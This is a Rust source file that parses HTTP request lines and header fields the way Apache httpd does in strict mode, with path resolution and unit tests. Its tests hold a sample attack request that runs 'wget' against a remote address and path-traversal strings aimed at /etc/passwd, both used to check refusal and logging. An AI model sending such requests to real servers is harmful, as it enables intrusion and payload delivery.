//! The head of a request: request line and header fields (RFC 9112, sections 2 to 5), with the tolerance of
//! Apache httpd 2.4 in its default, strict mode.

use haldane_core::{Halt, Input, Value};

/// Longest line, its ending not counted: Apache's LimitRequestLine and LimitRequestFieldSize, 8190, and the one
/// byte more that its code takes.
pub(crate) const LINE: usize = 8191;
/// Most header fields: Apache's LimitRequestFields.
const FIELDS: usize = 100;
/// Bytes of a head that are held. Apache would hold `FIELDS * LINE`; nobody sends that in good faith.
const HEAD: usize = 64 * 1024;
/// Bytes of the fields that are kept in an event.
const KEPT: usize = 16 * 1024;

/// One line, as it came.
#[derive(Debug, PartialEq, Eq)]
pub(crate) enum Line {
    /// Without its ending; `bare` if that was a line feed alone.
    Whole {
        /// The line.
        text: Vec<u8>,
        /// Whether no carriage return preceded the line feed.
        bare: bool,
    },
    /// The beginning of one that is too long.
    Long(Vec<u8>),
}

impl Line {
    /// Takes a line. One that is too long is taken in part, always the same part.
    pub(crate) fn parse(input: &mut Input<'_>) -> Result<Self, Halt> {
        let most = LINE.saturating_add(2);
        let rest = input.rest();
        let window = rest.get(..most).unwrap_or(rest);
        match window.iter().position(|byte| *byte == b'\n') {
            Some(end) => {
                let text = input.take(end)?;
                input.take(1)?;
                match text.strip_suffix(b"\r") {
                    Some(text) => Ok(Self::Whole { text: text.to_vec(), bare: false }),
                    None => Ok(Self::Whole { text: text.to_vec(), bare: true }),
                }
            }
            None if rest.len() >= most => input.take(LINE).map(|text| Self::Long(text.to_vec())),
            None => Err(Halt::Need(input.consumed().saturating_add(rest.len()).saturating_add(1))),
        }
    }
}

/// The protocol version, as far as it changes anything.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Version {
    /// HTTP/0.9: the answer is a bare body.
    Simple,
    /// HTTP/1.0.
    One,
    /// HTTP/1.1, and whatever claims to be newer.
    OneOne,
}

/// What is wrong with a head.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct Bad {
    /// For the event.
    pub(crate) why: &'static str,
    /// What Apache adds to its error page.
    pub(crate) note: &'static str,
}

impl Bad {
    pub(crate) const fn new(why: &'static str) -> Self {
        Self { why, note: "" }
    }
}

/// Apache's remark on a field, or a sum of fields, that is too large.
pub(crate) const TOO_LARGE: Bad =
    Bad { why: "header field too large", note: "Size of a request header field exceeds server limit." };

/// One header field, as it came.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Field {
    /// The whole line; folded lines joined by one space.
    pub(crate) line: Vec<u8>,
    colon: usize,
}

impl Field {
    /// A line with a name and a colon; `None` if it has not both.
    pub(crate) fn read(line: Vec<u8>) -> Option<Self> {
        let colon = line.iter().position(|byte| *byte == b':').filter(|colon| *colon > 0)?;
        Some(Self { line, colon })
    }

    pub(crate) fn name(&self) -> &[u8] {
        self.line.get(..self.colon).unwrap_or_default()
    }

    pub(crate) fn value(&self) -> &[u8] {
        self.line.get(self.colon.saturating_add(1)..).unwrap_or_default().trim_ascii()
    }
}

/// A request line and the fields below it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Head {
    /// As in `GET`.
    pub(crate) method: Vec<u8>,
    /// As it came.
    pub(crate) target: Vec<u8>,
    /// What a target in absolute form, or that of CONNECT, names.
    pub(crate) authority: Option<Vec<u8>>,
    /// As it came, without the query.
    pub(crate) path: Vec<u8>,
    /// Behind the question mark.
    pub(crate) query: Option<Vec<u8>>,
    /// The protocol's word, as in `HTTP/1.1`; empty for HTTP/0.9.
    pub(crate) protocol: Vec<u8>,
    /// What that means.
    pub(crate) version: Version,
    /// The header fields.
    pub(crate) fields: Vec<Field>,
    size: usize,
}

impl Head {
    /// Reads a request line.
    ///
    /// # Errors
    /// What Apache answers with 400.
    pub(crate) fn parse(line: &[u8]) -> Result<Self, Bad> {
        let mut words = line.split(|byte| *byte == b' ');
        let (method, target, protocol) = (words.next().unwrap_or_default(), words.next(), words.next());
        if method.is_empty() || !method.iter().copied().all(token) {
            return Err(Bad::new("invalid method"));
        }
        let target = target.filter(|target| !target.is_empty()).ok_or(Bad::new("no target"))?;
        if target.iter().any(|byte| *byte <= b' ' || *byte == 0x7f) {
            return Err(Bad::new("control character in the target"));
        }
        if words.next().is_some() {
            return Err(Bad::new("text after the protocol"));
        }
        let version = match protocol {
            None | Some(b"") if method == b"GET" => Version::Simple,
            None => return Err(Bad::new("no protocol")),
            Some([b'H', b'T', b'T', b'P', b'/', major @ b'1'..=b'9', b'.', minor @ b'0'..=b'9']) => {
                if (*major, *minor) == (b'1', b'0') { Version::One } else { Version::OneOne }
            }
            Some(_) => return Err(Bad::new("unknown protocol")),
        };
        let (authority, rest) = split_target(method, target)?;
        let (path, query) = match rest.iter().position(|byte| *byte == b'?') {
            Some(mark) => (rest.get(..mark), rest.get(mark.saturating_add(1)..)),
            None => (Some(rest), None),
        };
        Ok(Self {
            method: method.to_vec(),
            target: target.to_vec(),
            authority: authority.map(<[u8]>::to_vec),
            path: path.filter(|path| !path.is_empty()).unwrap_or(b"/").to_vec(),
            query: query.map(<[u8]>::to_vec),
            protocol: protocol.unwrap_or_default().to_vec(),
            version,
            fields: Vec::new(),
            size: line.len(),
        })
    }

    /// Makes what can be made of a request line that [`Head::parse`] refuses; for the record.
    pub(crate) fn unreadable(line: &[u8]) -> Self {
        let end = line.iter().position(|byte| byte.is_ascii_whitespace()).unwrap_or(line.len());
        let (method, rest) = line.split_at_checked(end).unwrap_or_default();
        let (method, rest) = match method.iter().copied().all(token) {
            true => (method, rest.trim_ascii()),
            false => (&b""[..], &b""[..]),
        };
        let word = rest.iter().rposition(|byte| *byte == b' ').map_or(0, |blank| blank.saturating_add(1));
        let protocol = rest.get(word..).filter(|word| word.starts_with(b"HTTP/")).unwrap_or_default();
        let target = rest.strip_suffix(protocol).unwrap_or(rest).trim_ascii_end();
        let mark = target.iter().position(|byte| *byte == b'?');
        Self {
            method: method.to_vec(),
            target: target.to_vec(),
            authority: None,
            path: target.get(..mark.unwrap_or(target.len())).unwrap_or_default().to_vec(),
            query: mark.and_then(|mark| target.get(mark.saturating_add(1)..)).map(<[u8]>::to_vec),
            protocol: protocol.to_vec(),
            version: Version::One,
            fields: Vec::new(),
            size: 0,
        }
    }

    /// A head whose parts another server's grammar found.
    pub(crate) fn of_parts(method: Vec<u8>, target: Vec<u8>, protocol: Vec<u8>, fields: Vec<Field>) -> Self {
        let mark = target.iter().position(|byte| *byte == b'?');
        Self {
            method,
            authority: None,
            path: target.get(..mark.unwrap_or(target.len())).unwrap_or_default().to_vec(),
            query: mark.and_then(|mark| target.get(mark.saturating_add(1)..)).map(<[u8]>::to_vec),
            version: if protocol == b"HTTP/1.1" { Version::OneOne } else { Version::One },
            target,
            protocol,
            fields,
            size: 0,
        }
    }

    /// Adds a line of the header.
    ///
    /// # Errors
    /// What Apache answers with 400.
    pub(crate) fn add(&mut self, line: &[u8]) -> Result<(), Bad> {
        self.size = self.size.saturating_add(line.len());
        if self.size > HEAD {
            return Err(TOO_LARGE);
        }
        if let [b' ' | b'\t', ..] = line {
            let last = self.fields.last_mut().ok_or(Bad::new("folded line without a field"))?;
            let more = line.trim_ascii();
            if more.is_empty() {
                return Err(Bad::new("empty folded line"));
            }
            if last.line.len().saturating_add(more.len()) >= LINE {
                return Err(TOO_LARGE);
            }
            last.line.push(b' ');
            last.line.extend_from_slice(more);
            return content(more);
        }
        if self.fields.len() >= FIELDS {
            let note = "The number of request header fields exceeds this server's limit.";
            return Err(Bad { why: "too many header fields", note });
        }
        let colon = line.iter().position(|byte| !token(*byte)).unwrap_or(line.len());
        if colon == 0 || line.get(colon) != Some(&b':') {
            return Err(Bad::new("malformed header field"));
        }
        let field = Field { line: line.trim_ascii_end().to_vec(), colon };
        let checked = content(field.value());
        self.fields.push(field);
        checked
    }

    /// Fields of one name are one field to Apache, and must fit as one.
    ///
    /// # Errors
    /// What Apache answers with 400.
    pub(crate) fn check_sizes(&self) -> Result<(), Bad> {
        let size = |field: &Field| {
            let values = self.fields.iter().filter(|other| other.name().eq_ignore_ascii_case(field.name()));
            values.fold(field.name().len(), |sum, other| {
                sum.saturating_add(other.value().len()).saturating_add(2)
            })
        };
        // Only many bytes can be too many.
        match self.size > LINE && self.fields.iter().any(|field| size(field) > LINE) {
            true => Err(TOO_LARGE),
            false => Ok(()),
        }
    }

    /// The first field of that name.
    pub(crate) fn field(&self, name: &str) -> Option<&[u8]> {
        let named = |field: &&Field| field.name().eq_ignore_ascii_case(name.as_bytes());
        self.fields.iter().find(named).map(Field::value)
    }

    /// Every field of that name.
    pub(crate) fn all<'a>(&'a self, name: &'a str) -> impl Iterator<Item = &'a [u8]> {
        let named = |field: &&Field| field.name().eq_ignore_ascii_case(name.as_bytes());
        self.fields.iter().filter(named).map(Field::value)
    }

    /// The fields as an event keeps them: whole lines, the first 16 KiB of them.
    pub(crate) fn kept(&self) -> Vec<Value> {
        let mut room = KEPT;
        let lines = self.fields.iter().map(|field| {
            let kept = field.line.get(..room).unwrap_or(&field.line);
            room = room.saturating_sub(kept.len());
            kept.into()
        });
        lines.collect()
    }

    /// Whether a field that is a list of words holds that one.
    pub(crate) fn says(&self, name: &str, word: &str) -> bool {
        self.all(name).any(|value| {
            value
                .split(|byte| *byte == b',')
                .any(|item| item.trim_ascii().eq_ignore_ascii_case(word.as_bytes()))
        })
    }

    /// The host that was asked for, with its port if it has one: of the target, else of the Host field.
    pub(crate) fn host(&self) -> Option<&[u8]> {
        let of_target = self.authority.as_deref().filter(|_| self.method != b"CONNECT");
        of_target.or_else(|| self.field("Host")).filter(|host| !host.is_empty())
    }
}

/// Parts a target into authority and the rest (RFC 9112, section 3.2).
fn split_target<'a>(method: &[u8], target: &'a [u8]) -> Result<(Option<&'a [u8]>, &'a [u8]), Bad> {
    if target.contains(&b'#') {
        return Err(Bad::new("fragment in the target"));
    }
    if method == b"CONNECT" {
        let (name, port) = split_port(target);
        let port = port.filter(|port| !port.is_empty() && port.iter().all(u8::is_ascii_digit));
        return match port.is_some() && !name.contains(&b'/') {
            true => Ok((Some(target), b"/")),
            false => Err(Bad::new("no host and port to connect to")),
        };
    }
    if target.starts_with(b"/") || (target == b"*" && method == b"OPTIONS") {
        return Ok((None, target));
    }
    if target.starts_with(b"?") {
        return Ok((None, target));
    }
    let scheme = target.iter().position(|byte| !byte.is_ascii_alphanumeric()).unwrap_or_default();
    let after = target.get(scheme..).and_then(|rest| rest.strip_prefix(b"://"));
    let (Some(after), true) = (after, scheme > 0) else {
        return Err(Bad::new("target is neither a path nor a URI"));
    };
    let end = after.iter().position(|byte| matches!(byte, b'/' | b'?')).unwrap_or(after.len());
    let (authority, rest) = after.split_at_checked(end).unwrap_or((after, b""));
    let scheme = target.get(..scheme).unwrap_or_default();
    if authority.contains(&b'@') {
        return Err(Bad::new("credentials in the target"));
    }
    if !scheme.eq_ignore_ascii_case(b"http") && !scheme.eq_ignore_ascii_case(b"https") {
        return Err(Bad::new("scheme is not http"));
    }
    Ok((Some(authority), if rest.is_empty() { b"/" } else { rest }))
}

/// RFC 9110, section 5.6.2.
pub(crate) fn token(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || b"!#$%&'*+-.^_`|~".contains(&byte)
}

/// RFC 9110, section 5.5.
fn content(value: &[u8]) -> Result<(), Bad> {
    match value.iter().any(|byte| (*byte < b' ' && *byte != b'\t') || *byte == 0x7f) {
        true => Err(Bad::new("control character in a header field")),
        false => Ok(()),
    }
}

/// Whether a Host field could name a host, as Apache's strict mode has it.
pub(crate) fn valid_host(host: &[u8]) -> bool {
    let allowed = |byte: &u8| byte.is_ascii_alphanumeric() || b"-._~:[]%!$&'()*+;=".contains(byte);
    let (name, port) = split_port(host);
    let number = |port: &[u8]| std::str::from_utf8(port).ok()?.parse::<u16>().ok().filter(|port| *port > 0);
    host.iter().all(allowed)
        && port.is_none_or(|port| port.iter().all(u8::is_ascii_digit) && number(port).is_some())
        && name != b"."
        && !name.windows(2).any(|pair| pair == b"..")
        && match name.starts_with(b"[") {
            true => name.ends_with(b"]"),
            false => !name.contains(&b':'),
        }
}

/// Parts a host from its port.
pub(crate) fn split_port(host: &[u8]) -> (&[u8], Option<&[u8]>) {
    let colon = host.iter().rposition(|byte| *byte == b':');
    let bracket = host.iter().rposition(|byte| *byte == b']');
    match colon.filter(|colon| bracket.is_none_or(|bracket| bracket < *colon)) {
        Some(colon) => (
            host.get(..colon).unwrap_or_default(),
            Some(host.get(colon.saturating_add(1)..).unwrap_or_default()),
        ),
        None => (host, None),
    }
}

/// Resolves a path to the name of a file, as Apache does: percent signs decoded, dot segments and double
/// slashes removed.
///
/// # Errors
/// The status that Apache answers with.
pub(crate) fn resolve(path: &[u8]) -> Result<Vec<u8>, u16> {
    let (text, valid) = decode(path, |byte| byte.is_ascii_alphanumeric() || b"-._~".contains(&byte));
    if !valid {
        return Err(400);
    }
    let mut segments: Vec<&[u8]> = Vec::new();
    let mut folder = true;
    for segment in text.split(|byte| *byte == b'/').skip(1) {
        folder = matches!(segment, b"" | b"." | b"..");
        match segment {
            b"" | b"." => {}
            b".." => drop(segments.pop().ok_or(400_u16)?),
            name => segments.push(name),
        }
    }
    let mut joined = Vec::new();
    for segment in segments {
        joined.push(b'/');
        joined.extend_from_slice(segment);
    }
    if folder {
        joined.push(b'/');
    }
    let hidden = |escape: &[u8]| escape.eq_ignore_ascii_case(b"%2f") || escape == b"%00";
    if joined.windows(3).any(hidden) {
        return Err(404);
    }
    Ok(decode(&joined, |_| true).0)
}

/// Decodes percent signs where `which` wants the byte they stand for, and says whether all were valid.
pub(crate) fn decode(text: &[u8], which: impl Fn(u8) -> bool) -> (Vec<u8>, bool) {
    let mut decoded = Vec::with_capacity(text.len());
    let (mut rest, mut valid) = (text, true);
    while let [first, more @ ..] = rest {
        let pair = match more {
            [high, low, ..] if *first == b'%' => hex(*high).zip(hex(*low)),
            _ => None,
        };
        valid &= *first != b'%' || pair.is_some();
        match pair.map(|(high, low)| (high << 4) | low) {
            Some(byte) if which(byte) => {
                decoded.push(byte);
                rest = more.get(2..).unwrap_or_default();
            }
            _ => {
                decoded.push(*first);
                rest = more;
            }
        }
    }
    (decoded, valid)
}

fn hex(digit: u8) -> Option<u8> {
    char::from(digit).to_digit(16).and_then(|value| u8::try_from(value).ok())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_path_above_the_root_is_refused_however_it_is_written() {
        for path in ["/..", "/../etc/passwd", "/cgi-bin/.%2e/%2E./etc/passwd", "/a/../../b"] {
            assert_eq!(resolve(path.as_bytes()), Err(400), "{path}");
        }
        assert_eq!(resolve(b"/a/./b//../c%20d"), Ok(b"/a/c d".to_vec()));
        assert_eq!(resolve(b"/css"), Ok(b"/css".to_vec()));
        assert_eq!(resolve(b"//"), Ok(b"/".to_vec()));
        assert_eq!(resolve(b"/css/."), Ok(b"/css/".to_vec()));
        assert_eq!(resolve(b"/a%2fb"), Err(404));
        assert_eq!(resolve(b"/a%00b"), Err(404));
        assert_eq!(resolve(b"/a%zzb"), Err(400));
    }

    #[test]
    fn of_a_line_with_blanks_in_its_target_everything_is_kept() {
        let head = Head::unreadable(b"GET /shell?cd /tmp; wget http://192.0.2.9/x HTTP/1.1");
        assert_eq!((head.method.as_slice(), head.path.as_slice()), (&b"GET"[..], &b"/shell"[..]));
        assert_eq!(head.query.as_deref(), Some(&b"cd /tmp; wget http://192.0.2.9/x"[..]));
        assert_eq!(Head::unreadable(b"\xff\xfe x").method, b"");
    }

    #[test]
    fn request_lines_are_taken_as_strictly_as_apache_takes_them() {
        for bad in [
            "",
            " GET / HTTP/1.1",
            "GET  / HTTP/1.1",
            "GET / HTTP/1.1 ",
            "POST / ",
            "CONNECT / HTTP/1.1",
            "CONNECT a HTTP/1.1",
            "CONNECT a: HTTP/1.1",
            "GET / HTTP/1.1 x",
            "GET",
            "GET ",
            "POST /",
            "GET / http/1.1",
            "GET / HTTP/0.9",
            "GET / HTTP/11.1",
            "GET x HTTP/1.1",
            "G{T / HTTP/1.1",
            "GET /#a HTTP/1.1",
            "GET ftp://a/ HTTP/1.1",
            "GET http://u@a/ HTTP/1.1",
            "GET\t/ HTTP/1.1",
        ] {
            assert!(Head::parse(bad.as_bytes()).is_err(), "{bad}");
        }
        assert_eq!(Head::parse(b"GET / ").map(|head| head.version), Ok(Version::Simple));
        assert_eq!(
            Head::parse(b"GET ?x HTTP/1.1").map(|head| (head.path, head.query)),
            Ok((b"/".into(), Some(b"x".into())))
        );
        let head = Head::parse(b"GET http://a:81?x HTTP/2.0").unwrap();
        assert_eq!((head.path.as_slice(), head.query.as_deref()), (&b"/"[..], Some(&b"x"[..])));
        let head = Head::parse(b"GET http://a:81/b?c?d HTTP/1.0").unwrap();
        assert_eq!((head.path.as_slice(), head.query.as_deref()), (&b"/b"[..], Some(&b"c?d"[..])));
        assert_eq!(head.host(), Some(&b"a:81"[..]));
    }
}
